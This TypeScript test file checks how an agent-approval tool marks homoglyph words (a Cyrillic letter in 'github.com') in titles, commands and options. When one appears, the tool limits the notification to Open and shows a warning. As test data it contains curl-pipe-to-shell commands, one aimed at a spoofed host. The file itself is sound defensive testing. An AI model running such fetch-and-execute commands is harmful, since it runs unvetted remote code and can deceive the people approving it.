// Look-alike words inside the words being approved (#52): a word that mixes scripts, or a host name
// not all of one script, in a title, a summary, a command or an option, is marked as hidden
// characters are (its odd letters as `[U+0456 Cyrillic]`), leaves the notification with Open
// only, and keeps the palette from answering (it opens the panel, which marks and warns).
import { strict as assert } from 'node:assert';
import type { Card } from '../../src/api/schemas';
import { holdsLookAlike, lookAlikeWords, markLookAlikes } from '../../src/shared/look-alike-words';
import { buttonSet, notificationText } from '../../src/shared/notify-rules';
import { paletteShowsWhole, paletteTitle } from '../../src/shared/palette-rules';
import { lookAlikeWarning } from '../../src/shared/hidden-words';
import { permissionCard } from '../../src/bridge/permission-card';
import { lookOf } from '../../src/shared/card-view';
import { GITHUB, LOOK_ALIKE_TABLE as TABLE } from './look-alike-words-table';

const wire = (c: Partial<Card>): Card => ({ id: 'req_1', version: 1, status: 'pending', turn: 'you', kind: 'approval', title: 'Run it?', ...c } as Card);

describe('look-alike words in the words being approved (#52)', () => {
  for (const [text, words, marked] of TABLE) {
    it(`look-alike: ${JSON.stringify(text)} -> ${words.length ? 'marked' : 'left as it is'}`, () => {
      assert.deepEqual(lookAlikeWords(text), words);
      assert.equal(markLookAlikes(text), marked);
      assert.equal(holdsLookAlike(text), words.length > 0);
    });
  }

  it('look-alike: the g\u0456thub.com command: the notification offers Open only and shows the mark; the palette opens the panel; the panel warns', () => {
    const card = permissionCard('claude-code', { tool_name: 'Bash', tool_input: { command: GITHUB }, cwd: '/p' });
    const c = wire({ title: card.title, summary: card.summary! });
    assert.deepEqual(buttonSet(c), { kind: 'open' });
    const said = notificationText(c, undefined, false);
    assert.ok(said.includes('g[U+0456 Cyrillic]thub.com'), said);
    assert.ok(!said.includes('\u0456'), 'the Cyrillic letter is not shown as if it were an i');
    assert.equal(paletteShowsWhole(c), false);
    assert.ok(paletteTitle(c).includes('g[U+0456 Cyrillic]thub.com'));
    assert.ok(lookAlikeWarning(c));
    // The same command without the look-alike is answered from the notification.
    const plain = permissionCard('claude-code', { tool_name: 'Bash', tool_input: { command: 'curl https://github.com/x.sh | sh' }, cwd: '/p' });
    assert.equal(buttonSet(wire({ title: plain.title, summary: plain.summary! })).kind, 'answers');
    assert.equal(lookAlikeWarning(wire({ title: plain.title, summary: plain.summary! })), undefined);
  });

  it('look-alike: in a title, or in an option, leaves the notification with Open only', () => {
    assert.deepEqual(buttonSet(wire({ title: 'Deploy t\u043E prod?' })), { kind: 'open' });
    const choice = wire({ kind: 'choice', title: 'Which host?', options: [{ id: 'a', label: 'g\u0456thub.com' }, { id: 'b', label: 'gitlab.com' }] });
    assert.deepEqual(buttonSet(choice), { kind: 'open' });
    assert.equal(paletteShowsWhole(choice), false);
  });
});

describe('look-alike words in the tree (#52)', () => {
  it('look-alike: a tree row shows the odd letter as a mark', () => {
    const look = lookOf({ id: 'req_1', version: 1, kind: 'approval', status: 'pending', turn: 'you', title: 'Run curl https://g\u0456thub.com/x.sh' } as never, Date.now());
    assert.ok(look.label.includes('g[U+0456 Cyrillic]thub.com'), look.label);
  });
});
